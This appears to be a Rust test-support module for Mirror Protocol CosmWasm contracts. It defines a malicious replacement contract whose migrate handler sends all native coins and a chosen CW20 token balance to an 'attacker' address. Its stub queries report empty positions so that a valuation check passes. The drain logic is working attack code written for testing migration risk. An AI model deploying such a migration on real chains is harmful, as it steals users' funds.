//! Code that sends away whatever the contract holds.

use cosmwasm_std::{
    to_json_binary, wasm_execute, Addr, BankMsg, Binary, CosmosMsg, Deps, DepsMut, Empty, Env,
    MessageInfo, Response, StdResult,
};
use cw20::{BalanceResponse, Cw20ExecuteMsg, Cw20QueryMsg};
use cw_multi_test::{Contract, ContractWrapper};
use mirror_protocol::mint;
use mirror_testing::{AddressBook, BASE};
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use terraswap::asset::Asset;

/// The message of the migration to this code.
#[derive(Serialize, Deserialize, Debug)]
pub(super) struct MigrateMsg {
    /// Who gets the coins and tokens; by default the attacker, since the migration of a pair has no
    /// fields.
    #[serde(default)]
    pub(super) thief: Option<Addr>,
    /// A token that is taken besides the base coins.
    #[serde(default)]
    pub(super) token: Option<Addr>,
}

/// The code, to be stored on the chain.
pub(super) fn code() -> Box<dyn Contract<Empty>> {
    Box::new(ContractWrapper::new(execute, instantiate, query).with_migrate(migrate))
}

fn migrate(deps: DepsMut, env: Env, msg: MigrateMsg) -> StdResult<Response> {
    let own = env.contract.address;
    let attacker = || AddressBook::default().addr_make("attacker");
    let thief = msg.thief.unwrap_or_else(attacker);
    let coins = deps.querier.query_balance(&own, BASE)?;
    let mut messages: Vec<CosmosMsg> = vec![];
    if !coins.amount.is_zero() {
        let send = BankMsg::Send {
            to_address: thief.to_string(),
            amount: vec![coins],
        };
        messages.push(send.into());
    }
    if let Some(token) = msg.token {
        let question = Cw20QueryMsg::Balance {
            address: own.into_string(),
        };
        let held: BalanceResponse = deps.querier.query_wasm_smart(&token, &question)?;
        let transfer = Cw20ExecuteMsg::Transfer {
            recipient: thief.into_string(),
            amount: held.balance,
        };
        messages.push(wasm_execute(token, &transfer, vec![])?.into());
    }
    Ok(Response::new().add_messages(messages))
}

fn instantiate(_: DepsMut, _: Env, _: MessageInfo, _: Empty) -> StdResult<Response> {
    Ok(Response::new())
}

fn execute(_: DepsMut, _: Env, _: MessageInfo, _: Empty) -> StdResult<Response> {
    Ok(Response::new())
}

/// Answers the valuation's queries: no positions at mint, empty pairs.
fn query(_: Deps, _: Env, msg: Value) -> StdResult<Binary> {
    match msg.get("pool") {
        Some(_) => to_json_binary(&json!({
            "assets": [Asset::native(BASE, 0u128), Asset::native(BASE, 0u128)],
            "total_share": "1",
        })),
        None => to_json_binary(&mint::PositionsResponse::default()),
    }
}
